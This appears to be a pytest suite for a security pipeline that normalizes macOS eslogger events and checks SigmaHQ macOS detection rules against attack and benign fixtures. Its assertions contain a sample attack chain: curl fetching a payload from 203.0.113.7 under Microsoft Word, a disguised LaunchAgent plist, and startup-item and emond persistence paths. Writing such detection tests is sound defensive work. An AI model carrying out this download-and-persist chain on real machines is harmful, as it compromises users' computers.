"""macOS Endpoint Security events as eslogger prints them (pure, no services): the layout is
detected per record, exec/create/write/rename become macOS schema events, other events are
refused with a reason, and every entry point (replay, gateway, raw-topic stage) agrees.
Fixtures: tests/fixtures/eslogger (written by its build.py from Apple's documented layout)."""

from __future__ import annotations

import copy
import json
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from detections.normalize.records import normalize_record
from ingest.adapters import eslogger, layouts
from ingest.adapters.windows import AdapterError
from ingest.gateway import otlp
from ingest.gateway.parse import Accepted, Identity, Limits
from ingest.gateway.pipeline import document_item
from ingest.sources import read_items
from schemas.events import parse_event

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "eslogger"
SCENARIOS: dict[str, dict[str, int]] = json.loads((FIXTURES / "scenarios.json").read_text())
NOW = datetime(2026, 3, 2, 9, 20, tzinfo=UTC)


def lines(name: str) -> list[bytes]:
    return [line.rstrip(b"\n") for line in (FIXTURES / f"{name}.ndjson").open("rb")]


def record(title: str) -> tuple[dict[str, Any], bytes]:
    """The fixture line of one scenario (by its global_seq_num)."""
    for name, titles in SCENARIOS.items():
        if title in titles:
            for raw in lines(name):
                obj = json.loads(raw)
                if obj["global_seq_num"] == titles[title]:
                    return obj, raw
    raise KeyError(title)


def convert(title: str, sensor_id: str | None = None) -> dict[str, Any]:
    obj, raw = record(title)
    event = layouts.normalize(obj, raw, tenant_id="acme", sensor_id=sensor_id)
    return event.model_dump(exclude_none=True)


def test_every_fixture_line_is_detected_as_eslogger() -> None:
    for name in SCENARIOS:
        for raw in lines(name):
            assert layouts.detect_layout(json.loads(raw)) == "eslogger"
    assert "eslogger" in layouts.LAYOUTS


def test_schema_events_keep_their_string_event_type_layout() -> None:
    schema = {"event_type": "process_creation", "sensor_id": "s", "mach_time": 1}
    assert layouts.detect_layout(schema) == "sigstream"
    obj, _ = record("osascript display dialog")
    for drop in ("mach_time", "event"):
        partial = {k: v for k, v in obj.items() if k != drop}
        assert not eslogger.is_eslogger(partial)
    no_token = copy.deepcopy(obj)
    del no_token["process"]["audit_token"]
    assert not eslogger.is_eslogger(no_token)
    assert not eslogger.is_eslogger({**obj, "event_type": True})


def test_exec_becomes_a_macos_process_creation() -> None:
    event = convert("curl download from Word")
    assert event["event_type"] == "process_creation"
    assert event["logsource"] == {"product": "macos", "category": "process_creation"}
    assert event["Image"] == "/usr/bin/curl"
    assert event["CommandLine"] == "curl -fsSL -o /tmp/update.bin http://203.0.113.7/update.bin"
    assert event["CurrentDirectory"] == "/Users/alice/Documents"
    # the exec's instigating process: Word's forked child before the exec = Word's image
    assert event["ParentImage"] == "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
    assert (event["ProcessId"], event["ParentProcessId"]) == ("4311", "1")
    assert event["User"] == "alice"
    assert (event["host"], event["sensor_id"]) == ("mbp-alice", "mbp-alice")
    assert event["event_time"] == datetime(2026, 3, 2, 9, 14, 1, 366219, tzinfo=UTC)  # ns truncated
    extra = event["extra"]
    assert extra["es_event"] == "exec"
    assert (extra["euid"], extra["signing_id"], extra["is_platform_binary"]) == (
        "501",
        "com.apple.curl",
        "true",
    )
    assert extra["parent_signing_id"] == "com.microsoft.Word"
    assert extra["parent_team_id"] == "UBF8T346G9"


def test_root_exec_user_and_uid() -> None:
    obj, raw = record("chmod +x in /tmp")
    obj = copy.deepcopy(obj)
    obj["event"]["exec"]["target"]["audit_token"]["euid"] = 0
    event = eslogger.to_event(obj, raw, tenant_id="t", sensor_id=None)
    assert event.User == "root"
    obj["event"]["exec"]["target"]["audit_token"]["euid"] = 502  # not the ruid: no env name
    event = eslogger.to_event(obj, raw, tenant_id="t", sensor_id=None)
    assert (event.User, event.extra["euid"]) == ("502", "502")


def test_file_events_take_the_destination() -> None:
    write = convert("curl writes the payload")
    assert (write["event_type"], write["TargetFilename"], write["Image"]) == (
        "file_event",
        "/tmp/update.bin",
        "/usr/bin/curl",
    )
    assert write["logsource"] == {"product": "macos", "category": "file_event"}
    existing = convert("launch agent plist created")
    assert existing["TargetFilename"] == "/Users/alice/Library/LaunchAgents/com.apple.updater.plist"
    new_path = convert("startup item created (new path)")
    assert new_path["TargetFilename"] == "/Library/StartupItems/Updater.plist"
    assert new_path["User"] == "root"
    rename = convert("emond rule renamed into place")
    assert rename["TargetFilename"] == "/private/etc/emond.d/rules/updater.plist"
    assert rename["extra"]["SourceFilename"] == "/tmp/r.plist"
    assert rename["extra"]["es_event"] == "rename"


def test_a_process_s_file_events_share_its_exec_guid() -> None:
    started = convert("curl download from Word")
    wrote = convert("curl writes the payload")
    assert started["ProcessGuid"] == wrote["ProcessGuid"]
    assert started["ProcessGuid"] != convert("chmod +x in /tmp")["ProcessGuid"]


def test_other_spellings_of_args_and_destination_are_read() -> None:
    obj, raw = record("osascript display dialog")
    obj = copy.deepcopy(obj)
    args = obj["event"]["exec"]["args"]
    obj["event"]["exec"]["args"] = {"count": len(args), "items": [{"value": a} for a in args]}
    event = eslogger.to_event(obj, raw, tenant_id="t", sensor_id=None)
    assert event.CommandLine == " ".join(args)
    obj, raw = record("startup item created (new path)")
    obj = copy.deepcopy(obj)
    obj["event"]["create"]["destination_type"] = "new_path"
    event = eslogger.to_event(obj, raw, tenant_id="t", sensor_id=None)
    assert event.TargetFilename == "/Library/StartupItems/Updater.plist"


@pytest.mark.parametrize("title", ["fork", "exit"])
def test_unmapped_events_are_refused_with_a_reason(title: str) -> None:
    obj, raw = record(title)
    with pytest.raises(eslogger.EsloggerUnsupported) as caught:
        layouts.normalize(obj, raw, tenant_id="t", sensor_id="s")
    assert caught.value.reason == "unsupported_event"
    assert f"'{title}'" in str(caught.value)


def test_broken_records_are_adapter_errors() -> None:
    obj, raw = record("chmod +x in /tmp")
    no_target = copy.deepcopy(obj)
    del no_target["event"]["exec"]["target"]
    bad_time = {**obj, "time": "yesterday"}
    no_dest = copy.deepcopy(record("launch agent plist created")[0])
    no_dest["event"]["create"]["destination"] = {}
    for broken in (no_target, bad_time, no_dest):
        with pytest.raises(AdapterError) as caught:
            layouts.normalize(broken, raw, tenant_id="t", sensor_id="s")
        assert caught.value.reason == "adapter_invalid"
    with pytest.raises(AdapterError, match="not Windows"):
        layouts.to_windows_record(obj)


def test_the_host_comes_from_the_shipper_or_the_credential() -> None:
    obj, raw = record("chmod +x in /tmp")
    bare = {k: v for k, v in obj.items() if k != "host"}
    with pytest.raises(AdapterError, match="without a host"):
        eslogger.to_event(bare, raw, tenant_id="t", sensor_id=None)
    by_credential = eslogger.to_event(bare, raw, tenant_id="t", sensor_id="mac-042")
    assert (by_credential.host, by_credential.sensor_id) == ("mac-042", "mac-042")
    for shipped in (
        {"host": {"name": "MBP-Bob"}},
        {"hostname": "MBP-Bob"},
        {"host.name": "MBP-Bob"},
    ):
        event = eslogger.to_event({**bare, **shipped}, raw, tenant_id="t", sensor_id=None)
        assert (event.host, event.sensor_id) == ("MBP-Bob", "mbp-bob")


def test_event_ids_are_stable_and_distinct() -> None:
    obj, raw = record("chmod +x in /tmp")
    first = eslogger.to_event(obj, raw, tenant_id="t", sensor_id=None)
    again = eslogger.to_event(json.loads(raw), raw, tenant_id="t", sensor_id=None)
    assert first.event_id == again.event_id
    other_host = eslogger.to_event({**obj, "host": "mbp-bob"}, raw, tenant_id="t", sensor_id=None)
    assert other_host.event_id != first.event_id
    ids = {convert(t)["event_id"] for t in SCENARIOS["attack"]}
    assert len(ids) == len(SCENARIOS["attack"])
    no_seq = {k: v for k, v in obj.items() if k != "global_seq_num"}
    assert eslogger.record_origin(no_seq, raw, "h").startswith("eslogger:sha256:")


def test_replay_of_an_ndjson_file_gives_the_events(tmp_path: Path) -> None:
    items = list(read_items(FIXTURES / "attack.ndjson", tenant_id="acme"))
    assert [i.reason for i in items] == [None] * len(SCENARIOS["attack"])
    direct = [convert(t) for t in SCENARIOS["attack"]]
    assert [i.event.event_id for i in items if i.event] == [e["event_id"] for e in direct]
    refused = list(read_items(FIXTURES / "refused.ndjson"))
    assert all(i.event is None and "is not mapped" in (i.reason or "") for i in refused)


def test_the_gateway_path_gives_the_same_event() -> None:
    obj, raw = record("osascript display dialog")
    relay = document_item(raw, obj, Identity("acme", "relay-01", relay=True), Limits(), NOW)
    assert isinstance(relay, Accepted), relay
    expected = convert("osascript display dialog")
    assert (relay.sensor_id, relay.event_id) == ("mbp-alice", expected["event_id"])
    decoded = parse_event(relay.value).model_dump(exclude_none=True)
    assert decoded["CommandLine"] == expected["CommandLine"]
    assert decoded["logsource"]["product"] == "macos"
    sensor = document_item(raw, obj, Identity("acme", "mac-042"), Limits(), NOW)
    assert isinstance(sensor, Accepted)
    assert sensor.sensor_id == "mac-042"
    fork, fork_raw = record("fork")
    refused = document_item(fork_raw, fork, Identity("acme", "mac-042"), Limits(), NOW)
    assert refused[0] == "unsupported_event"


def test_otlp_fills_the_host_of_an_eslogger_line() -> None:
    obj, _ = record("chmod +x in /tmp")
    bare = {k: v for k, v in obj.items() if k != "host"}
    otlp.fill_host(bare, "mbp-carol")
    assert bare["host"] == {"name": "mbp-carol"}
    schema = {"event_type": "process_creation"}
    otlp.fill_host(schema, "mbp-carol")
    assert "host" not in schema


def test_the_raw_topic_stage_normalizes_eslogger() -> None:
    _, raw = record("launchctl loads the agent")
    for topic in ("telemetry.raw.eslogger", "telemetry.raw.auto"):
        out = normalize_record(
            raw,
            None,
            topic=topic,
            partition=0,
            offset=7,
            tenant=None,
            default_tenant="acme",
            events_topic="telemetry.events",
            dlq_topic="telemetry.dlq",
        )
        assert out.topic == "telemetry.events", out.headers
        assert parse_event(out.value).event_id == convert("launchctl loads the agent")["event_id"]
    _, fork = record("fork")
    out = normalize_record(
        fork,
        None,
        topic="telemetry.raw.eslogger",
        partition=0,
        offset=8,
        tenant=None,
        default_tenant="acme",
        events_topic="telemetry.events",
        dlq_topic="telemetry.dlq",
    )
    assert out.topic == "telemetry.dlq"
    assert any(b"unsupported_event" in value for _, value in out.headers)


# -- SigmaHQ's macOS rules (unmodified) on the fixtures ----------------------------------------

SHARED_DATA = Path(
    os.environ.get("SIGSTREAM_SHARED_DATA", Path(__file__).parents[3] / "shared/data")
)
SIGMA_MACOS = SHARED_DATA / "sigma" / "rules" / "macos"
#: scenario -> the SigmaHQ rules (file stems) that must fire on it.
EXPECTED_RULES: dict[str, set[str]] = {
    "curl download from Word": {"proc_creation_macos_office_susp_child_processes"},
    "osascript display dialog": {
        "proc_creation_macos_applescript",
        "proc_creation_macos_gui_input_capture",
    },
    "xattr removes the quarantine": {"proc_creation_macos_xattr_gatekeeper_bypass"},
    "curl piped to osacompile": {"proc_creation_macos_susp_in_memory_download_and_compile"},
    "launchctl loads the agent": {"proc_creation_macos_launchctl_execution"},
    "startup item created (new path)": {"file_event_macos_susp_startup_item_created"},
    "emond rule renamed into place": {"file_event_macos_emond_launch_daemon"},
}


def fired_rules(titles: list[str]) -> dict[str, set[str]]:
    """Scenario -> stems of every SigmaHQ macOS rule that fires on its event."""
    import yaml

    from detections.compiler.plan import load_plan
    from detections.engine.apply import match_events

    if not SIGMA_MACOS.is_dir():
        pytest.skip(f"SigmaHQ's rules/macos not found at {SIGMA_MACOS}")
    paths = sorted(SIGMA_MACOS.rglob("*.yml"))
    stem_by_id = {str(yaml.safe_load(p.read_text())["id"]): p.stem for p in paths}
    plan = load_plan(paths)
    events = []
    for title in titles:
        obj, raw = record(title)
        event = layouts.normalize(obj, raw, tenant_id="acme", sensor_id=None)
        events.append(event.model_dump(mode="json", exclude_none=True))
    out: dict[str, set[str]] = {t: set() for t in titles}
    for position, index in match_events(plan, events):
        out[titles[position]].add(stem_by_id[str(plan.rules[index].rule.id)])
    return out


def test_sigmahq_macos_rules_fire_on_the_attack_fixtures() -> None:
    fired = fired_rules(list(SCENARIOS["attack"]))
    print("\n".join(f"{t}: {sorted(r)}" for t, r in fired.items()))
    for title, rules in EXPECTED_RULES.items():
        assert rules <= fired[title], (title, fired[title])


def test_sigmahq_macos_rules_stay_quiet_on_the_benign_fixtures() -> None:
    fired = fired_rules(list(SCENARIOS["benign"]))
    assert fired == {t: set() for t in SCENARIOS["benign"]}


def test_a_bulk_body_of_eslogger_lines_as_vector_sends_it() -> None:
    from ingest.gateway import bulk

    docs = lines("attack") + lines("refused")
    body = b"".join(b'{"create":{"_index":"macos-eslogger"}}\n' + raw + b"\n" for raw in docs)
    ops = bulk.parse_bulk(body, None, Limits())
    batch = bulk.to_batch(ops, Identity("acme", "relay-01", relay=True), Limits(), NOW)
    assert len(batch.events) == len(SCENARIOS["attack"])
    assert {e.sensor_id for e in batch.events} == {"mbp-alice"}
    assert [r.reason for r in batch.rejects] == ["unsupported_event"] * len(SCENARIOS["refused"])
